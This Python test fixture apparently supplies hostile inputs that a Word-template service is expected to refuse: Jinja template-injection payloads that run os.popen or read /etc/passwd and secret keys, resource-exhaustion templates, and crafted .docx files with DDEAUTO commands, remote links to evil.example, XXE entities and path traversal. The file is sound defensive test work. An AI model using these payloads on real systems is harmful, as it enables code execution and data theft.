"""Templates that would like to be more than templates: what they try, and where they hide it."""

import io
import zipfile
from html import escape

from itstart.documents import WordTemplate

KEY = "invitation"  # its context has kunde.navn and the list vedlagt
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

# What the reading of the code refuses, before anything is filled in.
REACH_OUT = [
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ joiner.__init__.__globals__ }}",
    "{{ namespace.__init__.__globals__ }}",
    "{{ self.__init__.__globals__.__builtins__ }}",
    "{{ self._TemplateReference__context.cycler }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ ''.__class__.__base__.__subclasses__()[100] }}",
    "{{ [].__class__.__base__.__subclasses__() }}",
    "{{ {}.__class__ }}",
    "{{ ().__class__.__bases__[0] }}",
    "{{ kunde.navn.__class__ }}",
    "{{ kunde.navn['__class__'] }}",
    "{{ kunde['__class__']['__init__'] }}",
    "{{ kunde|attr('__class__') }}",
    "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{{ [kunde]|map('attr', '__class__')|list }}",
    "{{ [kunde]|map(attribute='__class__')|list }}",
    "{{ [kunde.navn]|map(attribute='__class__.__mro__')|list }}",
    "{{ [kunde]|selectattr('__class__')|list }}",
    "{{ [kunde]|groupby('__class__') }}",
    "{{ request.application.__globals__ }}",
    "{{ config.items() }}",
    "{{ config['SECRET_KEY'] }}",
    "{{ get_flashed_messages.__globals__ }}",
    "{{ url_for.__globals__['current_app'] }}",
    "{{ g.pop.__globals__ }}",
    "{{ session }}",
    "{{ open('/etc/passwd').read() }}",
    "{{ __import__('os').system('id') }}",
    "{{ eval('1') }}",
    "{{ exec('1') }}",
    "{{ globals() }}",
    "{{ dict(__class__=1) }}",
    "{{ range.__self__ }}",
    "{{ loop.__class__ }}",
    "{% for x in vedlagt %}{{ loop._iterable }}{% endfor %}",
    "{% for x in vedlagt %}{{ loop.__init__.__globals__ }}{% endfor %}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{% if ''.__class__ %}x{% endif %}",
    "{% for key in kunde.keys() %}{{ key }}{% endfor %}",
    "{{ kunde.items() }}",
    "{{ kunde.clear() }}",
    "{{ kunde.update({'navn': 'x'}) }}",
    "{{ kunde.pop('navn') }}",
    "{{ vedlagt.append(1) }}",
    "{{ vedlagt.sort(key=lipsum) }}",
    "{{ kunde.navn.upper() }}",
    "{{ kunde.navn.format(kunde) }}",
    "{{ '{0.__class__}'.format(kunde) }}",
    "{{ '%s'|format(kunde) }}",
    "{{ kunde.navn.encode('rot13') }}",
    "{{ caller() }}",
    "{{ varargs }}",
    "{{ kwargs }}",
    "{{ _rendering }}",
    "{{ _ }}",
    "{{ __builtins__ }}",
    "{{ kunde.navn|blok(0) }}",
    "{{ kunde|pprint }}",
    "{{ kunde|tojson }}",
    "{{ kunde|xmlattr }}",
    "{{ kunde.navn|safe }}",
    "{{ kunde.navn|forceescape }}",
    "{{ kunde.navn|urlize }}",
    "{{ kunde.navn|striptags }}",
    "{{ kunde.navn|escape }}",
    "{{ kunde.navn|replace('a', 'b') }}",
    "{{ vedlagt|random }}",
    "{{ kunde is callable }}",
    "{{ kunde is sameas kunde }}",
    "{{ kunde is mapping }}",
    "{{ 'upper' is filter }}",
    "{% set x = kunde %}{{ x }}",
    "{% set x %}{{ kunde.navn }}{% endset %}",
    "{% macro m() %}{{ caller() }}{% endmacro %}",
    "{% call lipsum() %}{% endcall %}",
    "{% filter upper %}x{% endfilter %}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% from 'os' import system %}",
    "{% extends 'base' %}",
    "{% block x %}{% endblock %}",
    "{% with x = 1 %}{{ x }}{% endwith %}",
    "{% autoescape false %}{{ kunde.navn }}{% endautoescape %}",
    "{% raw %}{{ kunde.navn }}{% endraw %}{{ lipsum }}",
    "{% do kunde.clear() %}",
    "{% debug %}",
    "{% trans %}x{% endtrans %}",
    "{% continue %}",
    "{% for x in vedlagt recursive %}{{ loop(x) }}{% endfor %}",
]
EXHAUST = [
    "{% for x in range(1000000000) %}x{% endfor %}",
    "{% for x in range(99999) %}{% for y in range(99999) %}x{% endfor %}{% endfor %}",
    "{{ 'a' * 1000000000 }}",
    "{{ 'a' ~ 'b' }}",
    "{{ 9 ** 9 ** 9 }}",
    "{{ '%0999999999d' % 1 }}",
    "{{ '{:>999999999}'.format(1) }}",
    "{{ 'a'|center(1000000000) }}",
    "{{ 'a'|indent(1000000000) }}",
    "{{ 'a'|wordwrap(1) }}",
    "{{ lipsum(n=1000000) }}",
    "{{ 10 // 0 }}",
    "{{ 10 % 0 }}",
    "{% for a in vedlagt %}" * 5 + "x" + "{% endfor %}" * 5,
]
BROKEN = [
    "{{ kunde.navn",
    "{{ kunde.navn }",
    "{{ }}",
    "{% %}",
    "{% if kunde %}",
    "{% endif %}",
    "{% else %}",
    "{% for x in vedlagt %}",
    "{% for x vedlagt %}{% endfor %}",
    "{{ kunde.navn | }}",
    "{{ kunde.navn|findes_ikke }}",
    "{{ kunde. }}",
    "{{ kunde.navm }}",
    "{{ 'uden slut }}",
    "{# uden slut",
    "{{ kunde\u200b.navn }}",
    "{{ " + "9" * 5000 + " }}",
    "Foran {{p kunde.navn }}",
    "{%p if kunde.navn %} og mere {%p endif %}",
]
READ_AND_REFUSED = [*REACH_OUT, *EXHAUST, *BROKEN]

# What looks like a template, and shows itself when it is filled in; tried in the limited process.
ONLY_IN_A_TRIAL = [
    "{{ vedlagt + 1 }}",
    "{{ kunde.navn - 1 }}",
    "{{ vedlagt|sum }}",
    "{{ vedlagt|batch(1000000000, 'x')|list }}",
    "{{ [1]|slice(1000000000)|list }}",
    "{{ kunde }}",
    "{{ vedlagt }}",
    "{{ vedlagt[99].navn }}",
    "{{ vedlagt|sort }}",
    "{{ vedlagt|join(vedlagt) }}",
    "{{ 'x' + " + "('y' + " * 40 + "'z'" + ")" * 40 + " - 1 }}",
    # a list joined by a list joined by a list …: far more than the process may hold
    "{{ " + "(['a']|batch(200, 'x')|first)|join(" * 5 + "'f'" + ")" * 5 + " }}",
]

PLACES = ("body", "header", "property")


def parts(blob: bytes) -> dict[str, bytes]:
    """The package, part by part."""
    with zipfile.ZipFile(io.BytesIO(blob)) as package:
        return {info.filename: package.read(info) for info in package.infolist()}


def packed(contents: dict[str, bytes]) -> bytes:
    """The package again."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in contents.items():
            package.writestr(name, content)
    return out.getvalue()


def official(key: str = KEY) -> dict[str, bytes]:
    """Our own template, which is good."""
    return parts(WordTemplate(key).blob)


def with_xml(place: str, xml: str, key: str = KEY) -> bytes:
    """Our template with more XML at the end of its text or of a header."""
    contents = official(key)
    name, end = ("word/document.xml", b"<w:sectPr") if place == "body" else ("word/header1.xml", b"</w:hdr>")
    before, mark, after = contents[name].rpartition(end)
    contents[name] = before + xml.encode() + mark + after
    return packed(contents)


def with_payload(place: str, payload: str) -> bytes:
    """Our template with a payload in its text, in a header, or as the title among its properties."""
    if place == "property":
        contents = official()
        core = contents["docProps/core.xml"].decode()
        before, _, rest = core.partition("<dc:title>")
        after = rest.partition("</dc:title>")[2]
        title = f"<dc:title>{escape(payload)}</dc:title>"
        contents["docProps/core.xml"] = f"{before}{title}{after}".encode()
        return packed(contents)
    return with_xml(place, f'<w:p><w:r><w:t xml:space="preserve">{escape(payload, quote=False)}</w:t></w:r></w:p>')


# ---- files that are no harmless Word document at all --------------------------------------------------


def _field(code: str) -> str:
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{code}</w:instrText></w:r></w:p>'


def _split(code: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{letter}</w:instrText></w:r>" for letter in code)
    return f"<w:p>{runs}</w:p>"


FIELDS = {
    "dde": _field('DDE Excel "c:\\x.xls" R1C1'),
    "ddeauto": _field('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'),
    "split dde": _split("DDEAUTO"),
    "includetext": _field('INCLUDETEXT "http://evil.example/x"'),
    "includepicture": _field('INCLUDEPICTURE "http://evil.example/x.png"'),
    "link": _field('LINK Excel.Sheet.8 "http://evil.example/x"'),
    "import": _field('IMPORT "http://evil.example/x"'),
    "database": _field('DATABASE \\d "x.mdb"'),
    "macrobutton": _field("MACROBUTTON AutoOpen klik"),
    "simple field": '<w:fldSimple w:instr="DDEAUTO cmd"><w:r><w:t>x</w:t></w:r></w:fldSimple>',
    "object": "<w:p><w:r><w:object/></w:r></w:p>",
    "control": "<w:p><w:r><w:control/></w:r></w:p>",
    "altChunk": f'<w:altChunk xmlns:r="{OFFICE}" r:id="rId1"/>',
    "subDoc": f'<w:subDoc xmlns:r="{OFFICE}" r:id="rId1"/>',
}


def _linked(kind: str, target: str) -> bytes:
    contents = official()
    link = f'<Relationship Id="rIdX" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    rels = contents["word/_rels/document.xml.rels"]
    contents["word/_rels/document.xml.rels"] = rels.replace(b"</Relationships>", link.encode())
    return packed(contents)


def _with_part(name: str, content: bytes) -> bytes:
    return packed({**official(), name: content})


def _dtd(entity: str) -> bytes:
    contents = official()
    body = contents["word/document.xml"]
    contents["word/document.xml"] = body.replace(b"?>", f"?><!DOCTYPE w [{entity}]>".encode(), 1)
    return packed(contents)


def _typed(kind: str) -> bytes:
    contents = official()
    types = contents["[Content_Types].xml"].decode()
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    contents["[Content_Types].xml"] = types.replace(main, kind).encode()
    return packed(contents)


FILES = {
    "attached template": _linked("attachedTemplate", "http://evil.example/x.dotm"),
    "external image": _linked("image", "http://evil.example/x.png"),
    "external image on a share": _linked("image", "\\\\evil.example\\x"),
    "external object": _linked("oleObject", "http://evil.example/x"),
    "file link": _linked("hyperlink", "file:///etc/passwd"),
    "script link": _linked("hyperlink", "javascript:alert(1)"),
    "frame": _linked("frame", "http://evil.example/x"),
    "macro": _with_part("word/vbaProject.bin", b"x"),
    "embedded object": _with_part("word/embeddings/oleObject1.bin", b"x"),
    "active x": _with_part("word/activeX/activeX1.xml", b"<x/>"),
    "html part": _with_part("word/afchunk.html", b"<script>"),
    "program": _with_part("word/media/x.png", b"MZ" + b"\0" * 100),
    "macro type": _typed("application/vnd.ms-word.document.macroEnabled.main+xml"),
    "template type": _typed("application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"),
    "entity": _dtd('<!ENTITY x SYSTEM "file:///etc/passwd">'),
    "billion laughs": _dtd('<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">'),
    "bomb": _with_part("word/media/x.xml", b"0" * 60_000_000),
    "broken xml": _with_part("word/header9.xml", b"<w:hdr"),
    "path": _with_part("../../etc/x.xml", b"<x/>"),
    "no word": b"%PDF-1.7",
    "not a zip": b"PK\x03\x04" + b"\0" * 100,
    "empty": b"",
}
